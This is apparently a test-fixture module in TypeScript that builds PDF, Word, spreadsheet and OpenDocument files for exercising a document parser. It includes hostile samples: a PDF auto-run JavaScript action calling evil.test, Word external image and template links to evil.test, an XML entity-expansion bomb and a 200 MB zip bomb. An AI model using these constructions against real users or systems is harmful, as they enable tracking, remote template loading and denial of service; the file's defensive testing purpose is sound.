import { strToU8, zipSync } from 'fflate'

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
const R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
const S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
const HEAD = '<?xml version="1.0" encoding="UTF-8"?>'

/** A PDF of so many pages with a line on each; `more` goes into its catalogue, `length` makes it lie. */
export function pdfOf(lines: readonly string[], more: string = ''): Uint8Array {
  const kids = lines.map((_, at) => `${4 + 2 * at} 0 R`).join(' ')
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${more} >>`,
    `<< /Type /Pages /Count ${lines.length} /Kids [${kids}] >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...lines.flatMap((line, at) => {
      const content = `BT /F1 48 Tf 60 700 Td (${line}) Tj ET`
      return [
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${5 + 2 * at} 0 R /Resources << /Font << /F1 3 0 R >> >> >>`,
        `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
      ]
    }),
  ]
  let body = '%PDF-1.7\n'
  const places = objects.map((object, at) => {
    const place = body.length
    body += `${at + 1} 0 obj\n${object}\nendobj\n`
    return place
  })
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')
  const size = objects.length + 1
  const trailer = `trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${body.length}\n%%EOF\n`
  return strToU8(`${body}xref\n0 ${size}\n0000000000 65535 f \n${table}${trailer}`, true)
}

/** What a hostile PDF would do when it is opened. */
export const PDF_ACTS: string =
  '/OpenAction << /S /JavaScript /JS (app.launchURL\\("https://evil.test/pdf"\\); fetch\\("/evil-pdf"\\)) >>' +
  ' /AA << /WC << /S /URI /URI (https://evil.test/uri) >> >>'

export function docxOf(body: string, more: Readonly<Record<string, Uint8Array>> = {}): Uint8Array {
  const document = `${HEAD}<w:document ${W} ${R}><w:body>${body}</w:body></w:document>`
  return zipSync({ 'word/document.xml': strToU8(document), ...more })
}

export function wordsOf(text: string, style: string = ''): string {
  const properties = style === '' ? '' : `<w:pPr><w:pStyle w:val="${style}"/></w:pPr>`
  return `<w:p>${properties}<w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`
}

/** A picture and a template from elsewhere, as a paper asks for them that tells who opens it. */
export const DOCX_LINKS: Readonly<Record<string, Uint8Array>> = {
  'word/_rels/document.xml.rels': strToU8(
    `${HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="https://evil.test/pixel.png" TargetMode="External"/><Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.test/t.dotm" TargetMode="External"/></Relationships>`,
  ),
  'word/vbaProject.bin': new Uint8Array(100),
}

export function docxWithEntities(): Uint8Array {
  const bomb = `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>`
  const document = `${HEAD}${bomb}<w:document ${W}><w:body>${wordsOf('&b;')}</w:body></w:document>`
  return zipSync({ 'word/document.xml': strToU8(document) })
}

/** 200 MB of nothing in some 200 KB. */
export function docxBomb(): Uint8Array {
  return zipSync({ 'word/document.xml': new Uint8Array(200_000_000).fill(32) }, { level: 9 })
}

export function xlsxOf(rows: readonly (readonly string[])[]): Uint8Array {
  const shared = [...new Set(rows.flat())]
  const cells = (row: readonly string[], at: number): string =>
    row
      .map((cell, column) => {
        const place = `${String.fromCharCode(65 + column)}${at + 1}`
        return `<c r="${place}" t="s"><v>${shared.indexOf(cell)}</v></c>`
      })
      .join('')
  const sheet = rows.map((row, at) => `<row r="${at + 1}">${cells(row, at)}</row>`).join('')
  return zipSync({
    'xl/workbook.xml': strToU8(
      `${HEAD}<workbook ${S}><sheets><sheet name="Payments" sheetId="1"/></sheets></workbook>`,
    ),
    'xl/sharedStrings.xml': strToU8(
      `${HEAD}<sst ${S}>${shared.map((one) => `<si><t>${one}</t></si>`).join('')}</sst>`,
    ),
    'xl/worksheets/sheet1.xml': strToU8(
      `${HEAD}<worksheet ${S}><sheetData>${sheet}</sheetData></worksheet>`,
    ),
  })
}

export function odtOf(text: string): Uint8Array {
  const content = `${HEAD}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text><text:h text:outline-level="1">Title</text:h><text:p>${text}</text:p></office:text></office:body></office:document-content>`
  return zipSync({
    mimetype: [strToU8('application/vnd.oasis.opendocument.text'), { level: 0 }],
    'content.xml': strToU8(content),
  })
}
